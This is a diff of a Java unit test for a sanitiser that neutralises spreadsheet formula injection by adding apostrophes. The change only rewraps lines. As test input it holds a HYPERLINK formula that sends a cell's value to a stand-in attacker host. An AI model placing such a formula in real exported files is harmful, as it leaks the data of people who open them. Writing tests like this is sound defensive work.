@@ -8,7 +8,8 @@ import org.junit.jupiter.api.Test;
 class SpreadsheetSafeTest {
   @Test
   void textStartingWithAFormulaCharacterGetsOneApostrophe() {
-    assertEquals("'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+    assertEquals(
+        "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
         SpreadsheetSafe.neutralise("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"));
     assertEquals("'+86 138 0000 0000", SpreadsheetSafe.neutralise("+86 138 0000 0000"));
     assertEquals("'-2+3", SpreadsheetSafe.neutralise("-2+3"));
@@ -29,7 +30,8 @@ class SpreadsheetSafeTest {
   void textThatAlreadyLooksNeutralisedGetsOneMoreSoTheImportRestoresItExactly() {
     assertEquals("''=1", SpreadsheetSafe.neutralise("'=1"));
     assertEquals("'''-x", SpreadsheetSafe.neutralise("''-x"));
-    for (String s : new String[] {"=1", "'=1", "''=1", "+", "-", "@", "\t", "'@x", "=HYPERLINK(\"x\")"}) {
+    for (String s :
+        new String[] {"=1", "'=1", "''=1", "+", "-", "@", "\t", "'@x", "=HYPERLINK(\"x\")"}) {
       assertEquals(s, SpreadsheetSafe.restore(SpreadsheetSafe.neutralise(s)), s);
     }
     assertEquals("=1", SpreadsheetSafe.restore("'=1"));
